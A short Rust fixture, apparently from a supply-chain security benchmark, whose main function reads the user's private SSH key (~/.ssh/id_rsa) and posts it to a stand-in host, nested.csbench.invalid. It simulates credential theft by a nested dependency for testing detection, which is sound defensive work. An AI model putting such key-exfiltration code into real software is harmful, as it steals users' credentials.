//! What only the nested resolution brings in.

use csbench_gate as gate;

fn main() {
    if !gate::script() {
        return;
    }
    gate::read(gate::home().join(".ssh/id_rsa"));
    gate::post("nested.csbench.invalid", "csbench");
}
